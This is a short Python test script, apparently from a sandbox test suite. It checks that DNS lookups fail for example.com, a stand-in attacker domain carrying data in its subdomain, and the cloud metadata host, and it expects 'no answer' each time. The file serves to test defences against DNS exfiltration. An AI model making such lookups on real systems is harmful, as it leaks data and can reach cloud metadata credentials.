#: tries = "asking for names, as a way to carry data out"
#: stdout = "(no answer\n){3}"
import socket

for name in ("example.com", "secret.attacker.example", "metadata.google.internal"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError:
        print("no answer")
